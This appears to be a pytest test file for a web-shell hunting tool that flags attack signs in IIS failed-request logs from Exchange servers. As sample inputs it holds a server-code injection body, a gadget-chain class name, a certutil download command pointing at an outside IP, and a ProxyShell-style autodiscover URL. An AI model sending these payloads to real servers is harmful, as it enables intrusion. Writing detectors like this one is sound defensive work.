"""Traces of failed requests: attacks in them, and requests of every day."""

from __future__ import annotations

import pytest

from tests.builders.failed_requests import failed_request
from webshellhunt.model.findings import Finding
from webshellhunt.model.rules import Severity
from webshellhunt.pipeline import examine

PATH = r"C:\inetpub\logs\FailedReqLogFiles\W3SVC1\fr000001.xml"
HOST = "https://mail.example:443"


def found(data: bytes) -> list[Finding]:
    return [each for each in examine(data, path=PATH).findings if each.rule.id == "WSH7233"]


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("a=<·% Response.Write(1) %>", "the body of a request has server code"),
        ("a=%3C%25%40+Page+%25%3E", "the body of a request has server code"),
        ("MSOtlPn_DWP=Excel·DataSet", "the body of a request has a class of a gadget chain"),
        ("c=cert·util -url·cache -f ht·tp://192.0.2.7/a", "the body of a request has a download"),
    ],
)
def test_what_a_request_sent(body: str, words: str) -> None:
    (finding,) = found(failed_request(f"{HOST}/x.aspx", body=body))
    assert finding.message.startswith(words)
    assert finding.severity is Severity.MEDIUM


def test_a_page_that_answered() -> None:
    (finding,) = found(failed_request(f"{HOST}/owa/auth/x.aspx", verb="GET", status=200))
    assert finding.message == ("a page that Exchange does not ship answered (GET /owa/auth/x.aspx, answered with 200)")


def test_an_attempt_is_information() -> None:
    url = f"{HOST}/autodiscover/autodiscover.json?@a.b/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@a.b"
    findings = found(failed_request(url, verb="GET", status=404))
    assert {each.severity for each in findings} == {Severity.INFO}


@pytest.mark.parametrize(
    ("url", "status", "body"),
    [
        ("/owa/auth/logon.aspx", 200, "username=a&password=b"),
        ("/owa/auth/x.aspx", 404, ""),
        ("/shop/x.aspx", 500, "<soap:Envelope />"),
    ],
)
def test_requests_of_every_day(url: str, status: int, body: str) -> None:
    assert [each.severity for each in found(failed_request(HOST + url, status=status, body=body))] == []
